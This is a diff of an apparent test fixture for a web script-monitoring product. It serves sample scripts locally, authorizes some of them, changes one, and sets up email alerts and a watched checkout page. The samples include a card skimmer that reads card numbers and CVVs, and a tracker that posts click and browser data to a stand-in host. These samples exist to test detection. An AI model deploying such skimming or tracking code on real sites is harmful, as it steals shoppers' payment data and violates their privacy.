@@ -1,15 +1,22 @@
 // A monitored zone: scripts of every kind with real scores, connections, cookies, frames, code, and a threat feed.
-import { once } from 'node:events'
-import { createServer } from 'node:http'
-import type { AddressInfo } from 'node:net'
+import { join } from 'node:path'
+import { DatabaseSync } from '@photostructure/sqlite'
 import type { Api } from '../browsers/api.ts'
 import { until } from '../browsers/site.ts'
 import type { Target } from '../program.ts'
+import { serveFiles, serveNames, type ServedFile } from './outside-world.ts'
 
 export const MONITORED_ZONE = 'monitored.example'
 const WWW = `https://www.${MONITORED_ZONE}`
 /** Makes fetching from this machine possible, and slow sites no reason to wait. */
-export const FETCHES = ['--script-fetches', '2', '--fetch-networks', '127.0.0.0/8', '--fetch-ports', 'any']
+const FETCHES = ['--script-fetches', '2', '--fetch-networks', '127.0.0.0/8', '--fetch-ports', 'any']
+
+/** Settings with which the program reaches what this file serves. @param mailPort Of an SMTP server on this machine. */
+export async function monitoringFlags(mailPort: number): Promise<readonly string[]> {
+  const names = `127.0.0.1:${await serveNames(MONITORED_ZONE)}`
+  const mail = ['--smtp-url', `smtp://127.0.0.1:${mailPort}`, '--smtp-from', 'alerts@example.com']
+  return [...FETCHES, '--resolver', names, ...mail]
+}
 
 const SKIMMER = `document.querySelector('#card').addEventListener('input', () => {
   const card = document.querySelector('input[name=cardnumber]').value + '|' + document.querySelector('input[name=cvv]').value
@@ -17,15 +24,22 @@ const SKIMMER = `document.querySelector('#card').addEventListener('input', () =>
 })`
 const CLICKS = `addEventListener('click', (event) => fetch('https://stats.example.net/p', { method: 'POST',
   body: JSON.stringify({ x: event.clientX, u: location.href, a: navigator.userAgent }) }))`
+const APP = '/assets/app.7f3c1.js'
 const CONTENTS: Readonly<Record<string, string>> = {
   '/v3/loader.js': SKIMMER,
-  '/assets/app.7f3c1.js': 'export const add = (a, b) => a + b; console.log(add(1, 2))',
+  [APP]: 'export const add = (a, b) => a + b; console.log(add(1, 2))',
   '/assets/a-very-long-name-of-a-bundle-that-nobody-would-type.02ab9c77d1e0.js':
     'window.vendor = { version: 3 }',
   '/p.js': CLICKS,
 }
 
-export async function addMonitoring(api: Api, target: Target): Promise<void> {
+/** What the script is at its second fetch. */
+const LATER_APP = `export const add = (a, b) => a + b
+export const tax = (sum) => sum * 1.19
+console.log(tax(add(1, 2)))`
+
+/** @param folder Of the program's database. */
+export async function addMonitoring(api: Api, target: Target, folder: string): Promise<void> {
   const { id } = await api.post<{ id: string }>('/zones', { name: MONITORED_ZONE })
   await api.call('PUT', `/zones/${id}/page_shield`, { enabled: true })
   const own = `/zonereeve/zones/${id}/page_shield`
@@ -33,7 +47,11 @@ export async function addMonitoring(api: Api, target: Target): Promise<void> {
     also_report: ['frames', 'images', 'forms', 'inline', 'eval'],
     whole_paths: ['/checkout'],
   })
-  const origin = await serveScripts()
+  const files = new Map<string, ServedFile>(
+    Object.entries(CONTENTS).map(([path, body]) => [path, { type: 'text/javascript', body }]),
+  )
+  const port = await serveFiles(files)
+  const origin = `http://127.0.0.1:${port}`
   await observe(api, own, origin)
   await sendReports(api, own, target)
   await addFeed(api, target)
@@ -49,17 +67,81 @@ export async function addMonitoring(api: Api, target: Target): Promise<void> {
     },
     () => 'the scripts of the monitored zone were not fetched',
   )
+  await authorizeSome(api, id)
+  files.set(APP, { type: 'text/javascript', body: LATER_APP })
+  makeDue(folder, 'page_shield_resources', 'fetch_due_at', `${origin}${APP}`)
+  await addEmailAlert(api, own)
+  await addWatchedPage({ api, own, folder, files, page: `http://www.${MONITORED_ZONE}:${port}/checkout` })
+  const changed = await scriptOf(api, id, APP)
+  await until(
+    async () => (await api.get<{ history: [] }>(`${own}/scripts/${changed}/contents`)).history.length > 1,
+    () => 'the changed script was not fetched',
+  )
 }
 
-/** Ends with the process. @returns its origin. */
-async function serveScripts(): Promise<string> {
-  const server = createServer(({ url = '' }, reply) => {
-    const content = CONTENTS[url]
-    reply.writeHead(content === undefined ? 404 : 200, { 'content-type': 'text/javascript' }).end(content)
+/** Of what the program fetches, one row is due at once: its clock cannot be moved. */
+function makeDue(folder: string, table: string, column: string, url: string): void {
+  const database = new DatabaseSync(join(folder, 'zonereeve.db'))
+  database.exec('PRAGMA busy_timeout = 5000')
+  database.prepare(`UPDATE ${table} SET ${column} = '2026-01-01T00:00:00Z' WHERE url = ?`).run(url)
+  database.close()
+}
+
+const scriptOf = async (api: Api, zoneId: string, path: string): Promise<string> =>
+  (await api.get<readonly { id: string }[]>(`/zones/${zoneId}/page_shield/scripts?urls=${path}`))[0]?.id ??
+  'none'
+
+/** One whose content changes afterwards, and one that stays valid for a year. */
+async function authorizeSome(api: Api, zoneId: string): Promise<void> {
+  const root = `/zonereeve/zones/${zoneId}/page_shield/scripts`
+  const app = await scriptOf(api, zoneId, APP)
+  const body = { owner: 'Web team', justification: 'The shop itself' }
+  await api.call('PUT', `${root}/${app}/authorization`, body)
+  const vendor = await scriptOf(api, zoneId, '77d1e0.js')
+  const end = new Date(Date.now() + 365 * 86_400_000).toISOString()
+  await api.call('PUT', `${root}/${vendor}/authorization`, { ...body, expires_at: end })
+}
+
+const addEmailAlert = (api: Api, own: string): Promise<unknown> =>
+  api.post(`${own}/email_alerts`, {
+    recipients: ['security@example.com', 'web-team@example.com'],
+    kinds: ['script.reported', 'page.policy_drift', 'page.failed'],
+    digest_minutes: 60,
   })
-  server.unref()
-  await once(server.listen(0, '127.0.0.1'), 'listening')
-  return `http://127.0.0.1:${(server.address() as AddressInfo).port}` // it listens on a port
+
+interface WatchedSite {
+  readonly api: Api
+  readonly own: string
+  readonly folder: string
+  readonly files: Map<string, ServedFile>
+  readonly page: string
+}
+
+/** A page that is fetched twice: later it is sent with another header, and with one script more. */
+async function addWatchedPage({ api, own, folder, files, page }: WatchedSite): Promise<void> {
+  const script =
+    '<script src="/assets/app.7f3c1.js" integrity="sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="></script>'
+  const served = (body: string, headers: Readonly<Record<string, string>>): ServedFile => ({
+    type: 'text/html',
+    body: `<!doctype html><title>Checkout</title>${script}${body}`,
+    headers: { 'x-frame-options': 'DENY', 'referrer-policy': 'same-origin', ...headers },
+  })
+  files.set('/checkout', served('', { 'strict-transport-security': 'max-age=31536000' }))
+  const { id } = await api.post<{ id: string }>(`${own}/pages`, { url: page, interval_minutes: 1_440 })
+  const states = async () => (await api.get<readonly unknown[]>(`${own}/pages/${id}/history`)).length
+  await until(
+    async () => (await states()) === 1,
+    () => 'the watched page was not checked',
+  )
+  files.set(
+    '/checkout',
+    served('<script>window.dataLayer = []</script>', { 'x-frame-options': 'SAMEORIGIN' }),
+  )
+  makeDue(folder, 'page_shield_pages', 'next_check_at', page)
+  await until(
+    async () => (await states()) === 2,
+    () => 'the watched page was not checked again',
+  )
 }
 
 /** Three page views make a resource active. */
